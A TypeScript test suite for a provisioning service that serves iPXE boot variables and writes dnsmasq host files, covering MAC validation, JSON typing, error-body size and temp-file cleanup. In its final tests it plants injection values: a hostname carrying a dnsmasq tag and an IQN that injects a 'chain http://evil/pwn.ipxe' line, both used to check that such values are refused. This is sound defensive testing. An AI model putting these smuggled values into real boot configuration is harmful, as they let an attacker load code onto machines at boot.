/**
 * Issue 13's smaller findings against the real metal app (real SQLite, real files): the
 * open paths with a trailing slash, broadcast and multicast MACs, JSON bodies that are not
 * coerced, error bodies that do not echo 10 MB, stale temp files of dhcp-hosts.conf, and
 * records outside their grammar that reach the store some other way than the API.
 */
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { waitFor } from '@ironlens/core/testing';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { DeviceRepository } from '../repositories/device.repository';
import type { MetalDb } from '../repositories/tables';
import { WorkerRepository } from '../repositories/worker.repository';
import { type MetalFixture, newMetalFixture } from '../testing/fixture';

let f: MetalFixture;
const warnings: string[] = [];
const AUTH = { authorization: 'Bearer t0ken' };
const inject = (method: string, url: string, payload?: unknown) => f.app.inject({ method: method as 'GET', url, payload: payload as object, headers: AUTH });
const ops = async (op: string) => ((await inject('GET', '/operations')).json().entries as Array<{ op: string; [k: string]: unknown }>).filter((e) => e.op === op);

beforeEach(async () => {
  warnings.length = 0;
  f = await newMetalFixture({ IPXE_CP_TOKEN: 't0ken' }, { warn: (m) => warnings.push(m) });
});
afterEach(async () => {
  await f.close();
});

describe('open paths with a trailing slash', () => {
  it('serves /boot-vars/, /devices/report/ and /healthz/ as without the slash, never 401', async () => {
    expect((await f.app.inject({ url: '/healthz/' })).statusCode).toBe(200);
    const bv = await f.app.inject({ url: '/boot-vars/?hostname=x' });
    expect(bv.statusCode).toBe(200);
    expect(bv.body).toBe('#!ipxe\n# no per-worker boot vars found\n');
    const rep = await f.app.inject({ url: '/devices/report/?mac=000c29b98b2d' });
    expect(rep.statusCode).toBe(200);
    expect(rep.body).toBe('#!ipxe\n');
    expect((await inject('GET', '/devices/00:0c:29:b9:8b:2d')).statusCode).toBe(200);
    // Guarded paths stay guarded with a slash.
    expect((await f.app.inject({ url: '/workers/' })).statusCode).toBe(401);
  });
});

describe('broadcast and multicast MACs', () => {
  const GROUP = ['ff:ff:ff:ff:ff:ff', '01:00:5e:00:00:fb', '33:33:00:00:00:01', '03-00-00-00-00-00', 'FFFFFFFFFFFF'];

  it('are refused everywhere a MAC enters', async () => {
    expect((await inject('POST', '/workers', { worker_id: 'w1' })).statusCode).toBe(200);
    for (const mac of GROUP) {
      const reg = await inject('POST', '/devices', { mac });
      expect(reg.statusCode, mac).toBe(400);
      expect(reg.json().detail).toMatch(/broadcast or multicast/);
      expect((await f.app.inject({ url: `/devices/report?mac=${encodeURIComponent(mac)}` })).statusCode, mac).toBe(400);
      expect((await inject('POST', '/workers', { worker_id: 'w2', mac })).statusCode, mac).toBe(400);
      expect((await inject('PUT', '/workers/w1/mac', { mac })).statusCode, mac).toBe(400);
      expect((await inject('POST', `/devices/${encodeURIComponent(mac)}/bind?worker_id=w1`)).statusCode, mac).toBe(400);
      expect((await f.app.inject({ url: `/boot-vars?mac=${encodeURIComponent(mac)}` })).body).toBe('#!ipxe\n# no per-worker boot vars found\n');
    }
    const imported = (await inject('POST', '/devices/import', { entries: GROUP.map((mac) => ({ mac })) })).json();
    expect(imported.created).toEqual([]);
    expect(imported.failed).toHaveLength(GROUP.length);
    const batch = (await inject('POST', '/devices/bind/batch', { pairs: [{ mac: 'ff:ff:ff:ff:ff:ff', worker_id: 'w1' }] })).json();
    expect(batch.failed).toHaveLength(1);
    expect((await inject('GET', '/devices')).json()).toEqual([]);
  });

  it('still takes a unicast MAC whose first octet is even', async () => {
    expect((await inject('POST', '/devices', { mac: '02:00:00:00:00:01' })).statusCode).toBe(201);
  });
});

describe('JSON bodies are not coerced', () => {
  it('answers 422 to {"enabled": null} and [true], and keeps auto-register as it was', async () => {
    for (const enabled of [null, [true], 'false', 0]) {
      const r = await inject('PUT', '/settings/auto-register', { enabled });
      expect(r.statusCode, JSON.stringify(enabled)).toBe(422);
    }
    expect((await inject('GET', '/settings/auto-register')).json()).toEqual({ enabled: true });
  });

  it('answers 422 to a numeric worker_id', async () => {
    expect((await inject('POST', '/workers', { worker_id: 123 })).statusCode).toBe(422);
    expect((await inject('GET', '/workers')).json()).toEqual([]);
  });

  it('keeps coercing query strings', async () => {
    expect((await inject('GET', '/operations?limit=5&since=0')).statusCode).toBe(200);
  });
});

describe('error bodies', () => {
  it('answer a 10 MB hostname with a short 400', async () => {
    const r = await inject('POST', '/workers', { worker_id: 'w1', hostname: `${'h'.repeat(10 * 1024 * 1024)}` });
    expect(r.statusCode).toBe(400);
    expect(r.body.length).toBeLessThan(1_000);
    expect(r.json().detail).toMatch(/^invalid hostname: "hhhh/);
  });

  it('and per-item failures of a 200 answer do not echo 1 MB either', async () => {
    const big = 'm'.repeat(1024 * 1024);
    const imp = await inject('POST', '/devices/import', { entries: [{ mac: big }] });
    expect(imp.statusCode).toBe(200);
    expect(imp.body.length).toBeLessThan(2_000);
    const batch = await inject('POST', '/devices/bind/batch', { pairs: [{ mac: big, worker_id: big }] });
    expect(batch.body.length).toBeLessThan(2_000);
    expect((await inject('POST', '/devices', { mac: '52:54:00:00:00:09' })).statusCode).toBe(201);
    const unknownWorker = await inject('POST', '/devices/bind/batch', { pairs: [{ mac: '52:54:00:00:00:09', worker_id: big }] });
    expect(unknownWorker.json().failed).toHaveLength(1);
    expect(unknownWorker.body.length).toBeLessThan(2_000);
  });
});

describe('dhcp-hosts.conf temp files', () => {
  it('removes the temp files an interrupted write left, at the first sync, and nothing else', async () => {
    const dir = dirname(f.config.dnsmasqHostsFile);
    mkdirSync(dir, { recursive: true });
    const stale = ['.dhcp-hosts.conf.0a1b2c3d4e5f.tmp', '.dhcp-hosts.conf.ffffffffffff.tmp'];
    for (const n of stale) writeFileSync(join(dir, n), 'aa:bb:cc:dd:ee:ff,half-written');
    writeFileSync(join(dir, 'other.conf'), 'keep');
    writeFileSync(join(dir, '.dhcp-hosts.conf.not-hex.tmp'), 'keep');
    await f.services.dhcp.sync();
    for (const n of stale) expect(existsSync(join(dir, n)), n).toBe(false);
    expect(existsSync(join(dir, 'other.conf'))).toBe(true);
    expect(existsSync(join(dir, '.dhcp-hosts.conf.not-hex.tmp'))).toBe(true);
  });
});

describe('records outside their grammar that reached the store some other way', () => {
  /** What an old import or a hand-edited database could hold: written with the repositories, past the API. */
  async function plant(hostname: string, patch: { arch?: string; menu_timeout?: number; iqn?: string } = {}) {
    const db: MetalDb = f.store.db;
    await new WorkerRepository().insert(db, {
      worker_id: 'w-bad',
      hostname,
      arch: patch.arch ?? 'x86_64',
      state: 'ready',
      default_os: null,
      boot: { menu_default: 'debian', menu_timeout: patch.menu_timeout ?? 5000 },
      disks: patch.iqn ? [{ agent: 'a1', iqn: patch.iqn, filename: 'x.img', backing: '/x.img', os: 'debian', source: { type: 'empty', size: '1G' } }] : [],
      cd: null,
    });
    await new DeviceRepository().insert(db, { mac: '52:54:00:00:00:01', uuid: null, state: 'bound', bound_worker_id: 'w-bad', key_hash: null, source: 'manual', fingerprint: {}, first_seen: null, last_seen: null });
    f.services.bootVars.invalidate();
  }

  it('leaves a hostname with a newline and a dnsmasq tag out of dhcp-hosts.conf, logs and counts it', async () => {
    await plant('evil\nhost,set:x');
    expect((await inject('POST', '/devices', { mac: '52:54:00:00:00:02' })).statusCode).toBe(201);
    expect((await inject('POST', '/workers', { worker_id: 'good', mac: '52:54:00:00:00:02' })).statusCode).toBe(200);
    expect(readFileSync(f.config.dnsmasqHostsFile, 'utf8')).toBe('52:54:00:00:00:02,good,infinite\n');
    const refused = await ops('render.refused');
    expect(refused.at(-1)).toMatchObject({ renderer: 'dhcp-hosts', skipped: 1, records: [{ subject: '52:54:00:00:00:01,evil\nhost,set:x', fields: ['hostname'] }] });
    expect(warnings.join('\n')).toContain('dhcp-hosts: skipped 1 record');
  });

  it('answers no vars for a worker whose stored values would inject iPXE lines, and counts it once', async () => {
    await plant('w-bad', { menu_timeout: -5, iqn: 'iqn.2026-07.com.controller:w-bad.debian\nchain http://evil/pwn.ipxe\n#' });
    for (let i = 0; i < 3; i++) {
      const r = await f.app.inject({ url: '/boot-vars?mac=52:54:00:00:00:01' });
      expect(r.body).toBe('#!ipxe\n# no per-worker boot vars found\n');
    }
    const json = await f.app.inject({ url: '/boot-vars?hostname=w-bad&format=json' });
    expect(json.json()).toEqual({});
    // Counted once: the guard warns at once for every refusal it is told about…
    expect(warnings.filter((w) => w.startsWith('boot-vars: skipped'))).toHaveLength(1);
    // …and writes its operations entry after the answer went out.
    const refused = await waitFor('the render.refused entry', () => ops('render.refused'), (r) => r.length > 0);
    expect(refused).toHaveLength(1);
    expect(refused[0]).toMatchObject({ renderer: 'boot-vars', skipped: 1, records: [{ subject: 'w-bad', fields: ['base_iqn', 'menu_timeout'] }] });
  });
});
